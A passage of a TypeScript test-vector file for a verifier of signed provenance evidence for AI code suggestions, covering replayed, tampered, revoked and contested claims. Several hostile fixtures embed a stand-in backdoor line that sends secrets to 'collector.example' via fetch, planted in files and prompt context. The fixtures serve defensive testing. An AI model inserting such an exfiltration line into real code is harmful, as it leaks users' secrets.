  "  clear(): void {\n    this.entries.clear();\n  }\n",
  "  clearAll(): void {\n    this.entries.clear();\n  }\n",
];
const COPIED = { copied: "fromToday", prompt: "bound" } as const;
vector(
  "good/beside-a-copy",
  "A line of which there was a copy, written by hand, stands where it was accepted.",
  {
    rules: ["copies"],
    files: { "src/registry.ts": plain(TWICE) },
    evidence: [twice],
    known: all([twice]),
    pieces: [
      piece(
        twiceLeaf,
        "src/registry.ts",
        [6, 5, 6, 26],
        "verified",
        { ...GOOD, ...COPIED },
        { copiedFrom: { path: "src/registry.ts", line: 3 } },
      ),
    ],
  },
);
const WORD = `export class Registry {
  clear(): void {
    this.entries.clear();
  }
  size(): number {
    return this.«entries».size;
  }
}
`;
const word = batch([suggestion("word", "src/registry.ts", WORD)]);
vector(
  "good/a-word-of-the-file",
  "A single word that stands in the file already is no copy that is worth a word.",
  {
    rules: ["copies"],
    files: { "src/registry.ts": plain(WORD) },
    evidence: [word],
    known: all([word]),
    pieces: [
      piece(
        leaf(word, "word"),
        "src/registry.ts",
        [6, 17, 6, 24],
        "verified",
        { ...GOOD, copied: "no", prompt: "bound" },
        { part: true },
      ),
    ],
  },
);
/** What a reader who cannot tell a place says. */
function untold(file: MadeFile, name: string, path: string): ExpectedPiece {
  return {
    claim: leaf(file, name),
    piece: 0,
    path,
    lines: null,
    columns: null,
    part: true,
    checks: { ...GOOD, content: "ambiguous", prompt: "disclosed", copied: "fromPrompt" },
    summary: "unknown",
    copiedFrom: null,
  };
}
vector(
  "hostile/copy-in-its-place",
  "What was accepted is gone, and a line like it, written by hand, stands there.",
  {
    rules: ["copies"],
    files: {
      "src/registry.ts": plain(TWICE)
        .replace(OTHER_CLEAR, "")
        .replace("  clear()", "  one = 1;\n  two = 2;\n  three = 3;\n  clear()"),
    },
    evidence: [twice],
    known: all([twice]),
    pieces: [untold(twice, "twice", "src/registry.ts")],
  },
);
vector(
  "edited/beside-a-copy",
  "The accepted line was changed; the one written by hand is no place that it moved to.",
  {
    rules: ["copies", "edited"],
    files: {
      "src/registry.ts": plain(TWICE).replace(OTHER_CLEAR, OTHER_CLEAR.replace("clear();", "clear(true);")),
    },
    evidence: [twice],
    known: all([twice]),
    pieces: [
      piece(
        twiceLeaf,
        "src/registry.ts",
        null,
        "edited",
        { ...GOOD, ...EDITED, copied: "fromToday" },
        { copiedFrom: { path: "src/registry.ts", line: 3 } },
      ),
    ],
  },
);
vector(
  "hostile/copy-elsewhere",
  "What was accepted is gone; the line that was there before is no place of it.",
  {
    rules: ["copies"],
    files: { "src/registry.ts": `// New.\n${plain(TWICE).replace(OTHER_CLEAR, "")}` },
    evidence: [twice],
    pieces: [],
    gone: [{ claim: twiceLeaf, path: "src/registry.ts" }],
  },
);
vector("good/moved-beside-a-copy", "Both moved, and the line before tells which is which.", {
  rules: ["copies", "moved"],
  files: { "src/registry.ts": `// New.\n${plain(TWICE).replace(ONE_CLEAR, `  size2 = 0;\n${ONE_CLEAR}`)}` },
  evidence: [twice],
  known: all([twice]),
  pieces: [
    piece(
      twiceLeaf,
      "src/registry.ts",
      [8, 5, 8, 26],
      "verified",
      { ...GOOD, ...COPIED, content: "moved", prompt: "disclosed" },
      { copiedFrom: { path: "src/registry.ts", line: 5 } },
    ),
  ],
});

// Hostile

const evilText = `export function forward(secrets: string): void {
  «void fetch("https://collector.example/?" + secrets);»
}
`;
const honestId = idOf("sum");
const borrowed = batch([suggestion("borrowed", "src/forward.ts", evilText, { id: honestId })], {
  device: "stranger",
});
vector(
  "hostile/borrowed-replay",
  "Another claim bears the id of one that was replayed; a replay belongs to a leaf hash.",
  {
    rows: [1],
    files: { ...SUM_FILE, "src/forward.ts": plain(evilText) },
    evidence: [sum, borrowed],
    known: all([sum, borrowed], { replays: { [sumLeaf]: "exact" } }),
    pieces: [
      piece(leaf(borrowed, "borrowed"), "src/forward.ts", [2, 3, 2, 55], "anchored", {
        ...GOOD,
        execution: "notRun",
      }),
      piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", GOOD),
    ],
  },
);

const speck = batch([
  suggestion("speck", "src/leak.ts", "  return exfiltrate(secrets)«;»\n"),
  suggestion("two letters", "src/leak.ts", "  return «ex»filtrate(secrets);\n"),
]);
vector(
  "hostile/one-character",
  "A claim of one character, and one of two letters, say nothing about their line.",
  {
    rows: [2],
    rules: ["fragment"],
    files: { "src/leak.ts": "  return exfiltrate(secrets);\n" },
    evidence: [speck],
    known: all([speck]),
    beside: [
      { claim: leaf(speck, "speck"), path: "src/leak.ts", summary: "verified", why: "fragment" },
      { claim: leaf(speck, "two letters"), path: "src/leak.ts", summary: "verified", why: "fragment" },
    ].sort((a, b) => (a.claim < b.claim ? -1 : 1)) as VectorExpectation["beside"],
  },
);
vector("hostile/three-letters", "A claim of three letters is shown, and is only a part of its line.", {
  rows: [2],
  rules: ["part", "fragment"],
  files: { "src/leak.ts": "  return exfiltrate(secrets);\n" },
  ...(() => {
    const file = batch([suggestion("three letters", "src/leak.ts", "  return «exf»iltrate(secrets);\n")]);
    return {
      evidence: [file],
      known: all([file]),
      pieces: [
        piece(leaf(file, "three letters"), "src/leak.ts", [1, 10, 1, 13], "verified", GOOD, { part: true }),
      ],
    };
  })(),
});

const commented = batch([suggestion("commented", "src/off.ts", "// «return isAllowed(user)»;\n")]);
vector(
  "hostile/sealed-inside-a-comment",
  "A claim on text inside of a comment: the rest of its line is not the model's.",
  {
    rows: [3],
    rules: ["part"],
    files: { "src/off.ts": "// return isAllowed(user);\n" },
    evidence: [commented],
    known: all([commented]),
    pieces: [
      piece(leaf(commented, "commented"), "src/off.ts", [1, 4, 1, 26], "verified", GOOD, { part: true }),
    ],
  },
);

const STUFFED = `export function send(secret: string): void {
  «void fetch("https://collector.example/?" + secret);»
}
`;
const backdoor = '  void fetch("https://collector.example/?" + secret);\n';
const stuffed = batch([
  suggestion("stuffed", "src/send.ts", STUFFED, {
    values: { promptContext: [{ path: "notes.js", text: backdoor }] },
  }),
]);
vector(
  "hostile/copied-from-a-file",
  "The model repeats a line that lies in another file of the repository: that is said.",
  {
    rows: [5],
    files: { "src/send.ts": plain(STUFFED), "notes.js": `// Notes.\n${backdoor}` },
    evidence: [stuffed],
    known: all([stuffed]),
    pieces: [
      piece(
        leaf(stuffed, "stuffed"),
        "src/send.ts",
        [2, 3, 2, 54],
        "verified",
        { ...GOOD, copied: "fromToday" },
        { copiedFrom: { path: "notes.js", line: 2 } },
      ),
    ],
  },
);
vector(
  "hostile/copied-from-a-file-that-is-gone",
  "The file that the prompt quotes is not there, so only the prompt holds the answer: at most anchored.",
  {
    rows: [5],
    files: { "src/send.ts": plain(STUFFED) },
    evidence: [stuffed],
    known: all([stuffed]),
    pieces: [
      piece(leaf(stuffed, "stuffed"), "src/send.ts", [2, 3, 2, 54], "anchored", {
        ...GOOD,
        prompt: "disclosed",
        copied: "fromPrompt",
      }),
    ],
  },
);
const invented = batch([
  suggestion("invented", "src/send.ts", STUFFED, {
    values: { promptPrefix: `${backdoor}export function send(secret: string): void {\n  ` },
  }),
]);
vector(
  "hostile/copied-from-an-invented-prompt",
  "The prompt held the answer where the file does not: at most anchored.",
  {
    rows: [5],
    files: { "src/send.ts": plain(STUFFED) },
    evidence: [invented],
    known: all([invented]),
    pieces: [
      piece(leaf(invented, "invented"), "src/send.ts", [2, 3, 2, 54], "anchored", {
        ...GOOD,
        prompt: "disclosed",
        copied: "fromPrompt",
      }),
    ],
  },
);

const hidingText = plain(SUM).replace("total = 0", "total = 1");
const hiding = batch(
  [
    suggestion("hiding speck", "src/sum.ts", hidingText.replace("1;", "1«;»")),
    suggestion("hiding line", "src/sum.ts", hidingText.replace("let total = 1;", "«let total = 1;»")),
  ],
  { device: "stranger" },
);
vector("hostile/hiding-an-edited-line", "Claims on a changed line do not make the change disappear.", {
  rows: [7],
  rules: ["contested", "edited"],
  files: { "src/sum.ts": hidingText },
  evidence: [sum, hiding],
  known: all([sum, hiding]),
  pieces: [
    piece(sumLeaf, "src/sum.ts", null, "edited", { ...GOOD, ...EDITED }),
    piece(leaf(hiding, "hiding line"), "src/sum.ts", [3, 3, 3, 17], "verified", GOOD),
  ],
  beside: [{ claim: leaf(hiding, "hiding speck"), path: "src/sum.ts", summary: "verified", why: "fragment" }],
});

function named(model: JsonObject): MadeFile {
  return batch([suggestion("named", "src/sum.ts", SUM)], { execution: { ...REPLAYABLE, model } });
}
const praised = named({ ...PIN, name: "Qwen2.5-Coder-32B (approved by Security)" });
vector("hostile/praised-name", "Evidence gives an installed pin another name.", {
  rows: [9],
  files: SUM_FILE,
  evidence: [praised],
  known: all([praised]),
  pieces: [piece(leaf(praised, "named"), "src/sum.ts", SUM_PLACE, "failed", { ...GOOD, model: "misnamed" })],
});
const otherRoot = named({ ...PIN, omsRoot: digestNamed("garbage") });
vector("hostile/garbage-oms-root", "Evidence gives an installed pin another OMS root.", {
  rows: [9],
  files: SUM_FILE,
  evidence: [otherRoot],
  known: all([otherRoot]),
  pieces: [
    piece(leaf(otherRoot, "named"), "src/sum.ts", SUM_PLACE, "failed", { ...GOOD, model: "misnamed" }),
  ],
});
const strangersModel = named({ ...PIN, manifestDigest: digestNamed("biased graph") });
vector(
  "hostile/installed-name-of-other-weights",
  "Other weights under the name of an installed pin, even where a replay matched.",
  {
    rows: [8, 9],
    files: SUM_FILE,
    evidence: [strangersModel],
    known: all([strangersModel]),
    pieces: [
      piece(leaf(strangersModel, "named"), "src/sum.ts", SUM_PLACE, "unverified", {
        ...GOOD,
        model: "unapproved",
      }),
    ],
  },
);
vector("hostile/revoked-model", "An authority has revoked the model.", {
  files: SUM_FILE,
  evidence: [sum],
  known: all([sum], { revokedModels: [PIN.manifestDigest], approvedModels: [PIN.manifestDigest] }),
  pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "failed", { ...GOOD, model: "revoked" })],
});
vector("hostile/revoked-device", "An authority has revoked the device.", {
  files: SUM_FILE,
  evidence: [sum],
  known: all([sum], { revokedDevices: [sum.device] }),
  pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "failed", { ...GOOD, signature: "revokedDevice" })],
});
vector("hostile/revoked-environment", "An authority has revoked the environment that it approved.", {
  files: SUM_FILE,
  evidence: [sum],
  known: all([sum], {
    approvedEnvironments: [ENVIRONMENT_DIGEST],
    revokedEnvironments: [ENVIRONMENT_DIGEST],
  }),
  pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "failed", { ...GOOD, environment: "declaredRevoked" })],
});
vector("hostile/mismatch", "The model does not yield this text.", {
  files: SUM_FILE,
  evidence: [sum],
  known: all([sum], { replays: { [sumLeaf]: "mismatch" } }),
  pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "failed", { ...GOOD, execution: "mismatch" })],
});
vector("hostile/enclave-contradicted", "The enclave's signature is not over this answer.", {
  files: ENCLAVE_FILES,
  evidence: [enclave],
  known: all([enclave], { replays: {}, enclaves: { [enclaveLeaf]: "enclaveContradicted" } }),
  pieces: [
    piece(
      enclaveLeaf,
      "src/one.ts",
      [1, 20, 1, 36],
      "failed",
      { ...UNCHECKED, execution: "enclaveContradicted" },
      { part: true },
    ),
    piece(
      enclaveLeaf,
      "src/two.ts",
      [1, 1, 3, 2],
      "failed",
      { ...UNCHECKED, execution: "enclaveContradicted" },
      { number: 1 },
    ),
  ],
});

// What is not believed is not replayed either.
vector("hostile/no-repository-id", "The repository has no id, so nobody can tell whose evidence this is.", {
  rows: [12],
  rules: ["identity"],
  files: SUM_FILE,
  evidence: [sum],
  repositoryId: null,
  known: all([sum]),
  pieces: [
    piece(sumLeaf, "src/sum.ts", SUM_PLACE, "unknown", {
      ...GOOD,
      evidence: "unidentified",
      execution: "notRun",
    }),
  ],
  problems: [pathOf(sum)],
});
vector("hostile/foreign", "Evidence of another repository.", {
  rows: [12],
  rules: ["identity"],
  files: SUM_FILE,
  evidence: [sum],
  repositoryId: OTHER_REPOSITORY,
  known: all([sum]),
  pieces: [
    piece(sumLeaf, "src/sum.ts", SUM_PLACE, "failed", { ...GOOD, evidence: "foreign", execution: "notRun" }),
  ],
  problems: [pathOf(sum)],
});

const nonsenseText = SUM.replace(/[«»]/g, "")
  .replace("export function", "«export function")
  .replace(/\}\n$/, "}»\n");
const nonsense = batch([suggestion("nonsense", "src/sum.ts", nonsenseText)], { device: "stranger" });
vector("hostile/griefing", "A stranger's longer claim that nobody anchored does not lower a good line.", {
  rows: [13],
  rules: ["contested"],
  files: SUM_FILE,
  evidence: [sum, nonsense],
  known: all([sum], { devices: [sum.device] }),
  pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", GOOD)],
  beside: [{ claim: leaf(nonsense, "nonsense"), path: "src/sum.ts", summary: "pending", why: "contested" }],
});
const later = batch([suggestion("later", "src/sum.ts", SUM)], { device: "stranger" });
vector(
  "hostile/contested-by-a-later-anchor",
  "Of two equally good claims the one with the older anchor stands.",
  {
    rules: ["contested"],
    files: SUM_FILE,
    evidence: [later, sum],
    known: all([later, sum], {
      chain: {
        [later.batchRoot]: answer("finalized", { time: TIME + 1 }),
        [sum.batchRoot]: answer("finalized"),
      },
    }),
    pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", GOOD)],
    beside: [{ claim: leaf(later, "later"), path: "src/sum.ts", summary: "verified", why: "contested" }],
  },
);
const [smaller = "", larger = ""] = [sumLeaf, leaf(later, "later")].sort();
vector(
  "hostile/contested-at-one-time",
  "Of two claims that are equal in all else the one with the smaller leaf hash stands.",
  {
    rules: ["contested"],
    files: SUM_FILE,
    evidence: [later, sum],
    known: all([later, sum]),
    pieces: [piece(smaller, "src/sum.ts", SUM_PLACE, "verified", GOOD)],
    beside: [{ claim: larger, path: "src/sum.ts", summary: "verified", why: "contested" }],
  },
);
const planted = batch(
  [
    suggestion("planted", "src/sum.ts", SUM, {
      values: { promptPrefix: plain(SUM) },
    }),
  ],
  { device: "stranger" },
);
vector(
  "hostile/contested-by-a-copied-one",
  "An older claim whose prompt held the answer is worse than a younger one that the model wrote itself.",
  {
    rows: [5, 13],
    rules: ["contested"],
    files: SUM_FILE,
    evidence: [planted, sum],
    known: all([planted, sum], {
      chain: {
        [planted.batchRoot]: answer("finalized", { time: TIME - 1 }),
        [sum.batchRoot]: answer("finalized"),
      },
    }),
    pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", GOOD)],
    beside: [{ claim: leaf(planted, "planted"), path: "src/sum.ts", summary: "anchored", why: "contested" }],
  },
);
const DECOY = "«export const decoyOfAStranger = computeNothing();»\n";
const decoy = batch([suggestion("decoy", "src/sum.ts", DECOY)], { device: "stranger" });
const decoyLeaf = leaf(decoy, "decoy");
vector(
  "hostile/decoy-of-a-moved-file",
  "The file was renamed, and a stranger claims of its old name what stands in another file: each claim is followed by itself.",
  {
    rows: [13],
    rules: ["movedFile"],
    files: { "lib/total.ts": plain(SUM), "lib/decoy.ts": plain(DECOY) },
    evidence: [sum, decoy],
    known: all([sum], { devices: [sum.device] }),
    pieces: [
      piece(decoyLeaf, "lib/decoy.ts", [1, 1, 1, 50], "pending", {
        ...BARE,
        content: "moved",
        model: "pinOnly",
      }),
      piece(sumLeaf, "lib/total.ts", SUM_PLACE, "verified", { ...GOOD, content: "moved" }),
    ],
  },
);
vector("hostile/vanished", "The evidence of lines that still stand was taken away since the base.", {
  rows: [14],
  rules: ["vanished"],
  files: { ...SUM_FILE, ...GUARD_FILE },
  evidence: [],
  base: [sum, guard],
  vanished: [
    { claim: guardLeaf, path: "src/guard.py", line: 2 },
    { claim: sumLeaf, path: "src/sum.ts", line: 3 },
  ],
});
vector("hostile/vanished-by-a-broken-copy", "The evidence was replaced by a copy that cannot be believed.", {
  rows: [14],
  rules: ["vanished"],
  files: SUM_FILE,
  evidence: [],
  also: { [pathOf(sum)]: "{}\n" },
  base: [sum],
  vanished: [{ claim: sumLeaf, path: "src/sum.ts", line: 3 }],
  problems: [pathOf(sum)],
});

/** Batches of one device that contradict each other: all concerned fail. */
function equivocation(name: string, about: string, batches: readonly (readonly [MadeFile, boolean])[]): void {
  const files = batches.map(([file]) => file);
  const places: Record<string, readonly [number, number, number, number]> = {
    "src/guard.py": GUARD_PLACE,
    "src/sum.ts": SUM_PLACE,
  };
  const pathOfClaim = (claim: string): string => (claim === "sum" ? "src/sum.ts" : "src/guard.py");
  vector(`hostile/${name}`, about, {
    rows: [15],
    rules: ["sequence"],
    files: { ...SUM_FILE, ...GUARD_FILE },
    evidence: files,
    known: all(files),
    pieces: batches
      .flatMap(([file, isConcerned]) =>
        [...file.leaves].map(([claim, hash]) => {
          const path = pathOfClaim(claim);
          const place = places[path] ?? null;
          return isConcerned
            ? piece(hash, path, place, "failed", { ...GOOD, evidence: "equivocation", execution: "notRun" })
            : piece(hash, path, place, "verified", GOOD);
        }),
      )
      .sort((a, b) => (a.path < b.path ? -1 : 1)),
    problems: batches.flatMap(([file, isConcerned]) => (isConcerned ? [pathOf(file)] : [])).sort(),
  });
}
const following = (sequence: number, previousSeal: string | null): MadeFile =>
  batch([suggestion("guard", "src/guard.py", GUARD)], { sequence, previousSeal });
equivocation("two-first-batches", "A device has two first batches.", [
  [sum, true],
  [guard, true],
]);
equivocation("first-with-a-predecessor", "A first batch names one before it.", [
  [following(0, digestNamed("before")), true],
]);
equivocation("later-without-a-predecessor", "A later batch names none before it.", [
  [following(4, null), true],
]);
equivocation(
  "number-that-does-not-follow",
  "A batch's number does not follow that of the one that it names.",
  [
    [sum, false],
    [following(2, sum.seal), true],
  ],
);
const twoAfterOne = batch([suggestion("sum", "src/sum.ts", SUM)], {
  sequence: 3,
  previousSeal: digestNamed("shared"),
});
equivocation("two-after-one", "Two batches name one predecessor.", [
  [twoAfterOne, true],
  [following(4, digestNamed("shared")), true],
]);

const hugeToken = batch([suggestion("guard", "src/guard.py", GUARD)], {
  device: "stranger",
});
const hugeTokenFile = batch(
  [suggestion("guard", "src/guard.py", GUARD, { values: { tokens: [17, 4711, 2 ** 32] } })],
  { device: "stranger" },
);
/** What may be pointed at of broken evidence of the sample claims. */
export const SUM_BROKEN = { path: "src/sum.ts", line: 3, summary: "failed" } as const;
const GUARD_BROKEN = { path: "src/guard.py", line: 2, summary: "failed" } as const;
vector("hostile/huge-token", "A token of 2^32 in an opening costs its own file and no other.", {
  rows: [16],
  rules: ["oneFile", "reading"],
  files: { ...SUM_FILE, ...GUARD_FILE },
  evidence: [sum],
  also: { [pathOf(hugeToken)]: hugeTokenFile.text },
  known: all([sum]),
  pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", GOOD)],
  broken: [{ ...GUARD_BROKEN, evidence: "tampered", signature: "unknownDevice" }],
  problems: [pathOf(hugeToken)],
});
const deep = `${"[".repeat(2000)}${"]".repeat(2000)}\n`;
vector("hostile/nested-deeply", "A file that nests too deeply costs itself and no other.", {
  rows: [10, 16],
  rules: ["oneFile", "form"],
  files: SUM_FILE,
  evidence: [sum],
  also: { ".proofline/evidence/deep.json": deep, ".proofline/anchors/deep.json": deep },
  known: all([sum]),
  pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", GOOD)],
  problems: [".proofline/anchors/deep.json", ".proofline/evidence/deep.json"],
});

/** A file about the sample claim that cannot be believed. */
function broken(
  name: string,
  about: string,
  file: MadeFile | string,
  evidence: "malformed" | "tampered" | "newer",
  signature: "valid" | "unknownDevice" | "invalid",
  {
    rows = [],
    rules = ["form"],
  }: { readonly rows?: readonly number[]; readonly rules?: readonly string[] } = {},
): void {
  const text = typeof file === "string" ? file : file.text;
  vector(`hostile/${name}`, about, {
    rows,
    rules,
    files: SUM_FILE,
    evidence: [],
    also: { [pathOf(sum)]: text },
    known: all([sum]),
    broken: [{ ...SUM_BROKEN, evidence, signature, summary: evidence === "newer" ? "unknown" : "failed" }],
    problems: [pathOf(sum)],
  });
}
function bent(bend: (record: JsonObject) => void): MadeFile {
  return batch([suggestion("sum", "src/sum.ts", SUM, { bend })]);
}
broken(
  "wrong-acceptance",
  "The record says that only a part was accepted, and all was.",
  bent((record) => {
    record.acceptance = "partial";
  }),
  "tampered",
  "valid",
  { rows: [17], rules: ["reading"] },
);
broken(
  "wrong-count",
  "The record counts one token more than there are.",
  bent((record) => {
    record.counts = { ...(record.counts as JsonObject), tokens: 4 };
  }),
  "tampered",
  "valid",
  { rows: [17], rules: ["reading"] },
);
broken(
  "unknown-field",
  "The signed record holds a field that nobody checks: a later version may know it.",
  bent((record) => {
    record.replaced = "nonsense";
  }),
  "newer",
  "valid",
  { rows: [17], rules: ["newer"] },
);
function ofLater(bendStatement: (statement: JsonObject) => void): MadeFile {
  return batch([suggestion("sum", "src/sum.ts", SUM)], { bendStatement });
}
function bentExecution(bend: (execution: JsonObject) => void): MadeFile {
  return ofLater((statement) => {
    const predicate = statement.predicate as JsonObject;
    const execution = structuredClone(predicate.execution) as JsonObject;
    bend(execution);
    predicate.execution = execution;
  });
}
broken(
  "later-version",
  "Its device signed that the statement is of a later version of the format.",
  ofLater((statement) => {
    statement.predicateType = "urn:proofline:suggestions:v3";
  }),
  "newer",
  "valid",
  { rules: ["newer"] },
);
broken(
  "later-version-of-another-shape",
  "The same, in a file that holds more than this version knows.",
  batch([suggestion("sum", "src/sum.ts", SUM)], {
    bendStatement: (statement) => {
      statement.predicateType = "urn:proofline:suggestions:v3";
    },
    bendFile: (file) => {
      file.witnesses = [];
    },
  }),
  "newer",
  "valid",
  { rules: ["newer"] },
);
broken(
  "later-profile",
  "Its device signed an execution profile that this version does not know.",
  bentExecution((execution) => {
    execution.profile = "native/v9";
  }),
  "newer",
  "valid",
  { rules: ["newer"] },
);
broken(
  "later-provider",
  "Its device signed an execution provider that this version does not know.",
  bentExecution((execution) => {
    (execution.environment as JsonObject).executionProvider = "qnn";
  }),
  "newer",
  "valid",
  { rules: ["newer"] },
);
broken(
  "later-kind",
  "Its device signed a kind of execution that this version does not know.",
  bentExecution((execution) => {
    execution.kind = "proved";
  }),
  "newer",
  "valid",
  { rules: ["newer"] },
);
broken(
  "said-to-be-later",
  "Somebody who cannot sign it changed the version of a statement.",
  batch([suggestion("sum", "src/sum.ts", SUM)], {
    bendFile: (file) => {
      const envelope = file.envelope as JsonObject;
      const text = Buffer.from(String(envelope.payload), "base64").toString("utf8");
      envelope.payload = Buffer.from(text.replace("suggestions:v1", "suggestions:v3")).toString("base64");
    },
  }),
  "tampered",
  "invalid",
  { rules: ["newer", "reading"] },
);
broken(
  "unsigned-field",
  "Somebody added a field to a file beside what is signed.",
  batch([suggestion("sum", "src/sum.ts", SUM)], {
    bendFile: (file) => {
      file.witnesses = [];
    },
  }),
  "malformed",
  "invalid",
  { rules: ["newer", "form"] },
);
broken(
  "later-and-wrong",
  "Its device signed a profile that nobody knows, and a sequence that is no number: no version says that.",
  ofLater((statement) => {
    const predicate = statement.predicate as JsonObject;
    predicate.execution = { ...(predicate.execution as JsonObject), profile: "native/v9" };
    predicate.sequence = "first";
  }),
  "tampered",
  "valid",
  { rules: ["newer", "reading"] },
);
broken(
  "other-saved-lines",
  "The whole lines that travel are not those that were signed.",
  batch([suggestion("sum", "src/sum.ts", SUM)], {
    bendOpenings: (openings) => {
      const [text] = openings.texts as JsonObject[];
      if (text !== undefined) {
        text.saved = [plain(SUM).split("\n").slice(2, 7).join("\n").replace("= 0", "= 1")];
      }
    },
  }),
  "tampered",
  "valid",
  { rules: ["reading"] },
);
broken(
  "other-accepted-text",
  "The accepted text that travels is not what was committed to.",
  batch([suggestion("sum", "src/sum.ts", SUM)], {
    bendOpenings: (openings) => {
      const [text] = openings.texts as JsonObject[];
      const accepted = (text?.accepted ?? {}) as JsonObject;
      accepted.texts = [marked("src/sum.ts", SUM).piece.accepted.replace("= 0", "= 1")];
    },
  }),
  "tampered",
  "valid",
  { rules: ["reading"] },
);
broken(
  "unlike-its-tree",
  "The signed root is not that of the claims.",
  batch([suggestion("sum", "src/sum.ts", SUM)], {
    bendStatement: (statement) => {
      statement.subject = [{ name: "suggestions", digest: { sha256: digestNamed("other root") } }];
    },
  }),
  "tampered",
  "valid",
  { rules: ["reading"] },
);
broken(
  "signed-by-another",
  "The statement names one device, and another one signed it.",
  batch([suggestion("sum", "src/sum.ts", SUM)], { signer: "stranger" }),
  "tampered",
  "unknownDevice",
  { rules: ["reading"] },
);
broken(
  "changed-after-signing",
  "The statement was changed after it was signed.",
  batch([suggestion("sum", "src/sum.ts", SUM)], {
    bendFile: (file) => {
      const envelope = file.envelope as JsonObject;
      const text = Buffer.from(String(envelope.payload), "base64").toString("utf8");
      envelope.payload = Buffer.from(text.replace('"sequence":0', '"sequence":9')).toString("base64");
    },
  }),
  "tampered",
  "invalid",
  { rules: ["reading"] },
);
broken(
  "keys-in-another-order",
  "The file holds the same, with its keys in another order.",
  (() => {
    const file = JSON.parse(sum.text) as JsonObject;
    return `${JSON.stringify({ openings: file.openings ?? null, envelope: file.envelope ?? null }, null, 2)}\n`;
  })(),
  "malformed",
  "invalid",
  { rules: ["oneSpelling"] },
);
broken(
  "other-escapes",
  "A letter is spelt as an escape.",
  sum.text.replace('"let total', '"\\u006cet total'),
  "malformed",
  "invalid",
  { rules: ["oneSpelling"] },
);

/** What the chain says of the sample batch, which an anchor file speaks of. */
function anchored(
  anchor: ExpectedChecks["anchor"],
  about: string,
  summary: "failed" | "unknown" | "pending",
): void {
  vector(`hostile/anchor-${anchor.replace(/[A-Z]/g, (letter) => `-${letter.toLowerCase()}`)}`, about, {
    rules: ["anchors"],
    files: SUM_FILE,
    evidence: [sum],
    also: { [`.proofline/anchors/${sum.batchRoot}.8453.json`]: anchorFile(sum.batchRoot) },
    known: all([sum], { chain: { [sum.batchRoot]: answer(anchor) } }),
    pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, summary, { ...GOOD, anchor })],
  });
}
anchored("absent", "An anchor file claims a timestamp that the chain does not hold.", "failed");
anchored("reorged", "The chain holds another block or another event than the anchor file says.", "failed");
anchored("unreachable", "The chain did not answer.", "unknown");
anchored("wrongChain", "The batch is anchored on another chain than the reader's.", "unknown");
anchored("pending", "The chain holds no timestamp for the batch yet.", "pending");
anchored("disputed", "The servers that were asked contradict each other.", "unknown");
vector("hostile/broken-anchor-file", "An anchor file with an unknown field is a problem of its own.", {
  rules: ["anchors", "oneFile"],
  files: SUM_FILE,
  evidence: [sum],
  also: { ".proofline/anchors/a.json": anchorFile(sum.batchRoot, { note: "trust me" }) },
  known: all([sum]),
  pieces: [piece(sumLeaf, "src/sum.ts", SUM_PLACE, "verified", GOOD)],
  problems: [".proofline/anchors/a.json"],
});
